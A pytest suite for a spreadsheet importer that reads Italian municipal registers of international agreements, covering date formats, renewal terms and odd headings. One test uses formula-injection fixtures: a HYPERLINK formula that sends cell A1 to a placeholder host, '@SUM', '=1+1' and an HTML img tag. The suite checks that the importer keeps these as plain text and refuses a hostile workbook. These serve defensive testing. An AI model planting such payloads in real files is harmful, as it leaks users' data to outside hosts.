# SPDX-License-Identifier: EUPL-1.2
"""The files of offices, each read as a careful person would read it."""

import pytest

from accordi_desktop.exchange.imports.drafts import body_kind
from accordi_desktop.exchange.imports.meanings import Meaning
from accordi_desktop.exchange.imports.plan import Verdict
from accordi_desktop.exchange.imports.readings.reasons import Certainty, Reason
from accordi_desktop.exchange.imports.readings.terms import Term
from accordi_desktop.exchange.tables.layout import LeftOut
from accordi_desktop.exchange.tables.limits import TableFileError
from accordi_desktop.exchange.tables.worker import read_here
from accordi_desktop.model.enums import BodyKind, PeriodKind, RenewalClause, Side
from accordi_desktop.register.values.drafts import PeriodDraft
from tests.builders import day
from tests.exchange.imports.conftest import INPUTS, Importer, cell, row


def test_a_plain_register(importer: Importer) -> None:
    plan = importer.plan("01", proposals=True)
    assert [one.verdict for one in plan.rows] == [Verdict.NEW] * 6
    importer.run(plan)
    first = importer.content("RI-001")
    assert first.periods[0].act_date == day("2019-03-14")
    assert (first.periods[0].months, first.renewal_clause) == (24, RenewalClause.EXPRESS)
    assert [one.wording for one in first.sectors] == ["turismo", "cultura"]
    assert [(one.person, one.office, one.side) for one in first.signatories] == [
        ("Anna Prova", "Sindaca", Side.OWN),
        ("Jaan Näide", "Mayor of Tallinn", Side.COUNTERPART),
    ]
    second = importer.content("RI-002")
    assert second.open_ended
    assert [one.wording for one in second.sectors] == ["cultura", "educazione", "sport"]
    third = importer.content("RI-003")
    assert not third.titles[0].proper
    assert third.titles[0].text == "Accordo di collaborazione"
    assert third.kind_id is not None
    assert (third.renewal_clause, third.tacit_months) == (RenewalClause.TACIT, None)
    assert third.parties[1].country == "CZ"
    fourth = importer.content("RI-004")
    assert fourth.renewal_clause is RenewalClause.NONE
    assert [one.wording for one in fourth.sectors] == ["moda e design"]
    assert fourth.parties[1].body_kind is BodyKind.AGENCY
    fifth = importer.content("RI-005")
    assert fifth.parties[1].name == "成都市人民政府"
    assert [one.wording for one in fifth.sectors] == ["commercio", "turismo"]
    last = importer.content("007")
    assert (last.parties[1].city, last.parties[1].country) == ("", "IT")
    sheet = importer.register.agreements.sheet(importer.register.agreements.id_of("007"))
    assert sheet.end == day("2024-02-29")


def test_a_comma_in_a_sector_is_doubtful(importer: Importer) -> None:
    plan = importer.plan("01")
    assert [one.verdict for one in plan.rows].count(Verdict.DOUBTFUL) == 1
    found = cell(plan, 6, "Settori").reading
    assert found.reason is Reason.ONE_OR_SEVERAL
    assert found.choices == (("commercio", "turismo"), ("commercio, turismo",))
    settled = importer.plan("01", mapping=plan.mapping.settle("Settori", Reason.ONE_OR_SEVERAL, 1))
    assert [one.wording for one in row(settled, 6).draft.sectors] == ["commercio, turismo"]
    assert row(settled, 6).verdict is Verdict.NEW


def test_a_doubt_of_one_row_is_settled_alone(importer: Importer) -> None:
    plan = importer.plan("03", rows={(7, "Firmato il", Reason.EXCEL_NUMBER): 0})
    assert row(plan, 7).draft.periods[0].act_date == day("2018-02-02")
    assert cell(plan, 8, "Firmato il").taken.certainty is Certainty.DOUBTFUL


def test_a_header_of_two_rows_with_sections_totals_and_a_second_table(importer: Importer) -> None:
    plan = importer.plan("02", proposals=True)
    headings = [heading for heading, _meaning in plan.mapping.columns]
    assert headings[3:7] == [
        "Vigenza / dal",
        "Vigenza / al",
        "Firmatari / per il Comune",
        "Firmatari / per la controparte",
    ]
    assert [one.numbers for one in plan.rows] == [(7,), (8,), (10,)]
    left = dict(plan.left_out)
    assert left[5] is left[8] is LeftOut.SECTION
    assert left[10] is LeftOut.TOTAL
    assert {left[number] for number in range(12, 16)} == {LeftOut.OTHER_TABLE}
    assert [one.cells[-1].text for one in plan.rows] == ["EUROPA", "EUROPA", "ASIA"]
    second, third = row(plan, 8).draft, row(plan, 10).draft
    assert second.periods == (PeriodDraft(start=day("2012")),)
    assert [(one.kind, one.start.edtf, one.end.edtf) for one in third.periods] == [
        (PeriodKind.ORIGINAL, "2014-07-24", "2019-07-24"),
        (PeriodKind.RENEWAL, "2019-07-24", "2024-07-24"),
    ]
    places = [(one.draft.parties[1].city, one.draft.parties[1].country) for one in plan.rows]
    assert places == [("Porto", "PT"), ("Gand", "BE"), ("Daegu", "KR")]
    assert cell(plan, 8, "Ambiti").reading.reason is Reason.ONE_OR_SEVERAL


# In each line: the row, the certainty, the dates or choices as EDTF, the reason.
DATES = [
    (2, "sure", ["2012"], None),
    (3, "sure", ["2012"], None),
    (4, "sure", ["2016-11"], None),
    (5, "sure", ["2016-11"], None),
    (6, "doubtful", ["2018-02-02", "1918-02-02"], Reason.TWO_DIGIT_YEAR),
    (7, "doubtful", ["2018-02-02"], Reason.EXCEL_NUMBER),
    (8, "doubtful", ["2018-02-02"], Reason.EXCEL_NUMBER),
    (9, "sure", ["2018-02-02"], None),
    (10, "doubtful", ["2018-02-13"], Reason.MONTH_FIRST),
    (11, "sure", ["1975~"], None),
    (12, "doubtful", ["2012", "2012/.."], Reason.SINCE),
    (13, "not_understood", [], Reason.NO_SUCH_DAY),
    (14, "sure", ["2014-02-27"], None),
    (15, "empty", [], None),
    (17, "doubtful", ["2018-02-02"], Reason.TIME_IN_DATE),
    (18, "not_understood", [], Reason.YEAR_OUT_OF_RANGE),
    (19, "sure", ["2001-05-01"], None),
    (20, "not_understood", [], Reason.NOT_A_DATE),
    (21, "sure", ["2010-03/2010-06"], None),
    (22, "empty", [], None),
    (23, "not_understood", [], Reason.NOT_A_DATE),
]


@pytest.mark.parametrize(("number", "certainty", "dates", "reason"), DATES)
def test_dates_of_many_hands(importer: Importer, number, certainty, dates, reason) -> None:
    found = cell(importer.plan("03"), number, "Firmato il").reading
    values = [found.value] if found.certainty is Certainty.SURE else list(found.choices)
    assert (found.certainty, [one.edtf for one in values], found.reason) == (certainty, dates, reason)


def test_two_dates_in_a_cell_may_be_a_signature_and_a_renewal(importer: Importer) -> None:
    plan = importer.plan("03", proposals=True)
    assert cell(plan, 16, "Firmato il").reading.reason is Reason.SEVERAL_DATES
    periods = row(plan, 16).draft.periods
    assert [(one.kind, one.act_date.edtf) for one in periods] == [
        (PeriodKind.ORIGINAL, "2014-07-24"),
        (PeriodKind.RENEWAL, "2019-07-24"),
    ]


TACIT = RenewalClause.TACIT
TERMS = [
    (2, [Term(months=24)], None),
    (3, [Term(months=24)], None),
    (4, [Term(months=24, clause=TACIT)], None),
    (5, [Term(months=36, clause=TACIT, tacit_months=12, notice_months=3)], None),
    (6, [Term(months=24), Term(months=288)], Reason.BARE_NUMBER),
    (7, [Term(months=24), Term(months=2)], Reason.BARE_NUMBER),
    (8, [Term(months=24), Term(months=288)], Reason.BARE_NUMBER),
    (9, [Term(months=60, clause=TACIT)], None),
    (10, [Term()], None),
    (11, [Term(open_ended=True)], None),
    (12, [Term(open_ended=True)], None),
    (13, [Term(end=day("2020-12-31"))], None),
    (14, [Term(months=24, extension=24), Term(months=24)], Reason.TERM_AND_EXTENSION),
    (17, [Term(clause=RenewalClause.NONE)], None),
    (18, [], Reason.ZERO_TERM),
    (19, [], Reason.LONG_TERM),
    (20, [], Reason.NOT_A_TERM),
    (21, [Term(months=36)], None),
    (22, [Term(months=18)], None),
    (23, [Term(months=24)], None),
]


@pytest.mark.parametrize(("number", "terms", "reason"), TERMS)
def test_terms_of_many_hands(importer: Importer, number, terms, reason) -> None:
    found = cell(importer.plan("03"), number, "Durata e rinnovo").reading
    values = [found.value] if found.certainty is Certainty.SURE else list(found.choices)
    assert (values, found.reason) == (terms, reason)


def test_what_is_not_understood_is_a_gap_with_the_words_of_the_file(importer: Importer) -> None:
    importer.run(importer.plan("03", proposals=True))
    texts = [gap.text for gap in importer.content("D-12").gaps]
    assert texts == ["Dal file, colonna «Firmato il»: «31/02/2019» – giorno che non esiste."]
    kept = importer.register.imports.kept_rows(importer.register.agreements.id_of("D-12"))[0]
    assert [(one.heading, one.text) for one in kept.cells][2] == ("Firmato il", "31/02/2019")
    assert (kept.source, kept.number) == ("03-date-miste.xlsx", 13)


def test_days_are_counted_from_1904_where_the_file_does_so(importer: Importer) -> None:
    plan = importer.plan("04")
    assert [one.draft.periods[0].act_date.edtf for one in plan.rows] == ["2018-02-02", "2012"]


def test_a_csv_of_an_italian_excel(importer: Importer) -> None:
    file = read_here(INPUTS / "05-excel-italiano.csv")
    assert (file.encoding, file.separator) == ("cp1252", ";")
    plan = importer.plan_of(file)
    assert [one.draft.reference for one in plan.rows] == ["007", "008", "009", "010"]
    assert dict(plan.mapping.columns)["Cod. interno"] is Meaning.REFERENCE
    assert dict(plan.mapping.columns)["Stato estero"] is Meaning.COUNTRY
    assert dict(plan.mapping.columns)["Importo"] is Meaning.KEEP
    assert row(plan, 2).draft.parties[1].name == "SOCIETA' PER L'EXPO DI SÃO PAULO"
    assert [one.draft.periods[0].months if one.draft.periods else None for one in plan.rows] == [
        24,
        None,
        36,
        None,
    ]
    assert cell(plan, 4, "Data").reading.reason is Reason.EXCEL_ERROR
    assert cell(plan, 4, "Data").text == "#N/D"
    assert row(plan, 4).draft.notes == "=1+1"
    assert cell(plan, 6, "Data").reading.reason is Reason.YEAR_OUT_OF_RANGE
    assert row(plan, 2).draft.notes == "prima riga\nseconda riga; con punto e virgola"
    assert dict(plan.left_out)[4] is LeftOut.EMPTY


def test_a_unicode_text_with_doubled_headings(importer: Importer) -> None:
    plan = importer.plan("06")
    assert [meaning for _heading, meaning in plan.mapping.columns] == [
        Meaning.COUNTERPART,
        Meaning.CITY,
        Meaning.START,
        Meaning.END,
        Meaning.RENEWAL_START,
        Meaning.RENEWAL_END,
        Meaning.OWN_BODY,
    ]
    assert [heading for heading, _meaning in plan.mapping.columns][4:] == ["Dal (2)", "Al (2)", "Ente (2)"]
    first, second, third = (one.draft for one in plan.rows)
    assert [(one.start.edtf, one.end.edtf) for one in first.periods] == [
        ("2001", "2004"),
        ("2004-07-01", "2007-06-30"),
    ]
    assert first.periods[1].kind is PeriodKind.RENEWAL
    assert second.parties[1].name == 'Città di "Nuova" Łódź'
    assert second.periods == ()
    assert third.parties[1].name == "Praga distretto 5"
    assert third.periods[0].start == day("2010-05")


def test_an_old_workbook_with_a_hidden_sheet(importer: Importer) -> None:
    file = read_here(INPUTS / "07-vecchio.xls")
    assert [(sheet.name, sheet.hidden) for sheet in file.sheets] == [
        ("Accordi", False),
        ("vecchi (non usare)", True),
    ]
    first, second, third = (one.draft for one in importer.plan_of(file).rows)
    assert (first.periods[0].act_date, first.periods[0].end) == (day("1998-04-23"), day("2000-04-23"))
    assert (second.periods[0].act_date, second.open_ended) == (day("1996"), True)
    assert third.periods[0].act_date == day("1973-04")
    assert third.parties[1].country == "RU"


def test_a_million_repeated_empty_rows(importer: Importer) -> None:
    plan = importer.plan("08")
    assert [one.draft.parties[1].name for one in plan.rows] == ["Città di Tirana", "Città di Scutari"]
    assert [one.draft.periods[0].act_date.edtf for one in plan.rows] == ["2017-11-05", "2009"]
    assert [sector.wording for sector in plan.rows[0].draft.sectors] == ["cultura", "sport"]


def test_formulas_errors_and_what_looks_like_them(importer: Importer) -> None:
    plan = importer.plan("10")
    assert cell(plan, 2, "Scadenza").reading.reason is Reason.EXCEL_NUMBER
    assert cell(plan, 3, "Scadenza").reading.reason is Reason.EXCEL_ERROR
    assert cell(plan, 3, "Scadenza").text == "#REF!"
    assert cell(plan, 4, "Scadenza").reading.reason is Reason.NO_VALUE
    names = [one.draft.parties[1].name for one in plan.rows]
    assert names == [
        '=HYPERLINK("http://esempio.invalid/?"&A1,"clic")',
        "+39 Comune",
        "@SUM(A1)",
        "Tabulazione in testa",
        '<img src="//server.invalid/x"> Comune',
    ]
    assert plan.mapping.columns[4][0] == "E"
    assert cell(plan, 5, "Codice").reading.reason is Reason.BAD_REFERENCE
    assert not any(one.draft.assertions for one in plan.rows)


def test_a_state_is_asserted_once_its_source_is_named(importer: Importer) -> None:
    mapping = importer.plan("10").mapping.with_sources(asserted_source="Registro 2026", asserted_on="2026-01")
    found = row(importer.plan("10", mapping=mapping), 2).draft.assertions[0]
    assert (found.wording, found.source, found.as_of) == ("SCADUTO", "Registro 2026", day("2026-01"))


def test_a_hostile_workbook_is_refused(importer: Importer) -> None:
    with pytest.raises(TableFileError) as refused:
        importer.plan("12")
    assert refused.value.code == "table_path_outside"


def test_a_name_that_does_not_say_what_it_is_stays_open() -> None:
    names = ("Riga", "Comune di Borgofinto", "Università di Vilnius", "Borgofinto Servizi")
    kinds = (BodyKind.CITY, BodyKind.CITY, BodyKind.UNIVERSITY, None)
    assert tuple(map(body_kind, names)) == kinds
